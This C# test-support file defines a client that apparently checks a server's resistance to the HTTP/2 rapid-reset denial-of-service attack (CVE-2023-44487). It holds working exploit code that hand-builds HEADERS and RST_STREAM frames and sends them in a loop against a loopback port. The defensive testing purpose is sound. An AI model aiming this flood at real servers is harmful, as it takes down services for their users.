using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;

namespace EdgeAssist.AlertRelay.Tests.Support;

/// <summary>An HTTP/2 client that opens streams and resets them at once (RFC 9113 §6.4; CVE-2023-44487).</summary>
internal static class RapidResetClient
{
    private const byte HeadersFrame = 1, ResetFrame = 3, SettingsFrame = 4, EndHeaders = 4;
    private const uint Cancel = 8;

    private static readonly byte[] Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray();

    // :method POST, :scheme http (static table 3 and 6), :path /x as a literal without indexing (RFC 7541 §6.2.2).
    private static readonly byte[] Request = [0x83, 0x86, 0x04, 0x02, (byte)'/', (byte)'x', 0x01, 0x01, (byte)'h'];

    public static async Task<Socket> ConnectAsync(int port, CancellationToken cancellationToken, bool greeting = true)
    {
        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(IPAddress.Loopback, port, cancellationToken);
        if (!greeting) return socket;

        await socket.SendAsync((byte[])[.. Preface, .. Frame(SettingsFrame, 0, 0, [])], cancellationToken);
        await socket.ReceiveAsync(new byte[1024], cancellationToken);   // the server has taken the connection
        return socket;
    }

    /// <returns>How many streams it opened and reset before the server ended the connection.</returns>
    public static async Task<int> RunAsync(int port, int most, CancellationToken cancellationToken)
    {
        using var socket = await ConnectAsync(port, cancellationToken);
        var drain = DrainAsync(socket, cancellationToken);
        var reset = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(reset, Cancel);
        var sent = 0;
        try
        {
            for (; sent < most && !drain.IsCompleted; sent++)
            {
                var stream = 2 * sent + 1;
                await socket.SendAsync((byte[])[.. Frame(HeadersFrame, EndHeaders, stream, Request), .. Frame(ResetFrame, 0, stream, reset)], cancellationToken);
            }
        }
        catch (SocketException)
        {
            // Ended by the server.
        }

        return sent;
    }

    private static async Task DrainAsync(Socket socket, CancellationToken cancellationToken)
    {
        var buffer = new byte[4096];
        try
        {
            while (await socket.ReceiveAsync(buffer, cancellationToken) > 0)
            {
                // Settings, pings, goaway: whatever it says.
            }
        }
        catch (Exception end) when (end is SocketException or ObjectDisposedException or OperationCanceledException)
        {
            // Ended.
        }
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)payload.Length;
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
